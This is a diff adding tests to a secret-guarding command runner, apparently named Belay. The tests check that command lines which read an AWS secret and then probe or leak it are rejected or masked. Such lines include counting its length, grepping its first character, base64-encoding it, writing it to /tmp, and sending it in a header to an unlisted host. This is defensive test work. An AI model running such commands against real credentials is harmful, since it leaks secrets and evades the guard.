@@ -180,6 +180,7 @@ it('a secret is handed over in a header, and nowhere else', async () => {
     `curl "${stats}?token=$TOKEN"`,
     `curl "${stats}?token=$(openssl rand -hex 8)"`,
     'npm run seed -- --key $TOKEN',
+    `${token.replace('TOKEN', 'WHOLE').replace('-r .token', "-r '.SecretString | fromjson | .token'").replace(' --query SecretString --output text', '')}\ncurl "${stats}?token=$WHOLE"`,
     'NOTE="it is $TOKEN"\naws ecs list-tasks --cluster "$NOTE"',
     'psql -c "SELECT \'$TOKEN\'"',
     'aws ecs list-tasks --cluster $TOKEN',
@@ -188,6 +189,38 @@ it('a secret is handed over in a header, and nowhere else', async () => {
     await expect(run(`${token}\n${line}`, held)).rejects.toThrow(stays)
   const { asked } = await run(`${token}\ncurl -u "ana:$TOKEN" ${stats}`, held)
   expect([asked.at(-1)!.input.user, asked.at(-1)!.secrets!.size]).toEqual(['ana:[secret api as TOKEN]', 1])
+})
+
+it('nothing tells how long a secret is, how it begins or what is in it', async () => {
+  const get = 'aws secretsmanager get-secret-value --secret-id api --query SecretString --output text'
+  const answers = {
+    ...held,
+    'ecs:ListClusters': { json: { clusterArns: ['api'] } },
+    'ssm:GetParameter': { json: { Parameter: { Value: 'hunter2' } } },
+  }
+  const clusters = 'aws ecs list-clusters --query clusterArns --output text'
+  const parts = 'of a secret Belay takes all of it or a member, and tells nothing else of it'
+  for (const [line, why] of [
+    [`${get} | wc -l`, parts],
+    [`${get} | grep -c ^h`, parts],
+    [`${get} | jq length`, parts],
+    [`${get.replace('SecretString', '"starts_with(SecretString, \'h\')"')}`, parts],
+    [`${get} | xargs -n1 aws ecs list-tasks --cluster`, parts],
+    [`KEY=$(${get} | grep ^h)\ncurl -H "X-Key: $KEY" ${stats}`, parts],
+    [`${clusters} | xargs -n1 aws ssm get-parameter --with-decryption --name`, 'it would show secrets'],
+    [`for s in $(${clusters}); do ${get.replace('api', '$s')}; done`, 'it would show secrets'],
+    [`${token}\nNOTE=$(echo $TOKEN)\ncurl "${stats}?note=$NOTE"`, 'where it may be seen'],
+    [`${token}\nDB_PASSWORD=$TOKEN npm run seed`, 'it is given a secret as DB_PASSWORD'],
+    [`${token}\necho $TOKEN | wc -c`, 'Belay is no shell'],
+    [`${token}\necho $TOKEN | base64`, 'Belay is no shell'],
+    [`${token}\necho $TOKEN > /tmp/token`, 'it writes or reads a file of your machine'],
+    [`${token}\necho \${TOKEN:0:1}`, 'Belay is no shell'],
+    [`${token}\ncurl -H "X-Key: $TOKEN" https://elsewhere.example.com/`, 'does not name the address'],
+    [`NEW=$(openssl rand -hex 8 | head -1)\necho $NEW`, 'It needs a secret, which Belay hands on to nobody'],
+  ] as const)
+    await expect(run(line, answers), line).rejects.toThrow(why)
+  for (const line of [get, `${token}\necho $TOKEN | grep h`, 'aws ssm get-parameter-history --name /key'])
+    expect((await run(line, answers)).said, line).toMatch(/\[secret .*\]/)
 })
 
 it('what is made is made by the rotation that needs it, once; what is read is not copied', async () => {
